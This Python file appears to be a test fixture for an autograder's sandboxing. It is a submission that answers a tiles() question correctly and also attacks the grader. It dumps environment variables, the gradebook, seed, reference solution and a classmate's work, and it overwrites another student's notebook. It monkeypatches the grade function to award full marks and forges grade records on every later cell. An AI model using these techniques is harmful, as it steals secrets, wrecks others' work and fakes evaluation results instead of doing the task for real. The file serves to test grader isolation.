# theo, stage 3 (issue 28's thief). This course's teacher asks for tiles() in plain Python, so this answer runs in
# the notebook's Jupyter kernel. Beside the right answer it prints into its own feedback everything of the
# grader's it can reach (the environment, the seed, the gradebook, a classmate's hand-in, the reference solution),
# overwrites a later classmate's hand-in, and replaces nkilab.grade in the kernel -- and forges a grade record on
# every later cell -- so that the slow kernel above it would score 4/4. The kernel runs in the sandbox and the grade
# cells run in the grader: it earns what its kernel earns (2/4), and the teacher's check of tiles() is worth 0.
import builtins
import os
import sys
from pathlib import Path

from IPython import get_ipython
from IPython.display import display

import nkilab
import nkilab.judge.grade as grading
from nkilab.judge.results import MIME, GradeRecord


def tiles(n, free_dim=1000):
    return -(-n // (128 * free_dim))


print("THEFT environment:", dict(os.environ))
print("THEFT working directory:", os.getcwd(), sorted(os.listdir(".")))
here = Path.cwd()
repo = Path(nkilab.__file__).resolve().parents[2]
seed_file = os.environ.get("NKILAB_SEED_FILE", "")
for target in [seed_file, here / "../../../gradebook.db", here / "../../../autograded/ada",
               here / "../../ada/03_free_dim_streaming/03_free_dim_streaming.ipynb",
               repo / "solutions/03_free_dim_streaming/stream_add_1d.py", repo / "build/example_class/gradebook.db"]:
    try:
        loot = Path(target).read_bytes()[:4000].decode(errors="replace") if Path(target).is_file() else \
            sorted(os.listdir(target))
        print(f"THEFT {target}: {loot}")
    except (OSError, ValueError) as err:
        print(f"THEFT {target}: {type(err).__name__}")
for victim in [here / "../../../submitted/trudy/03_free_dim_streaming/03_free_dim_streaming.ipynb",
               here / "../../trudy/03_free_dim_streaming/03_free_dim_streaming.ipynb"]:
    try:
        victim.write_text('{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}')
        print(f"THEFT overwrote {victim}")
    except OSError as err:
        print(f"THEFT could not overwrite {victim}: {type(err).__name__}")


def full_marks(question, module_path=None, **kwargs):
    print(f"{question}: 4.0 / 4 points")
    return 4.0


nkilab.grade = grading.grade = builtins.grade = full_marks
sys.modules["nkilab"].grade = full_marks
forged = GradeRecord("stream_add_1d", "Stage 3", 4.0, 4.0, 2.0, 2.0, 2.0, 2.0).to_json()
get_ipython().events.register("post_run_cell", lambda *_: display({MIME: forged, "text/plain": ""}, raw=True))
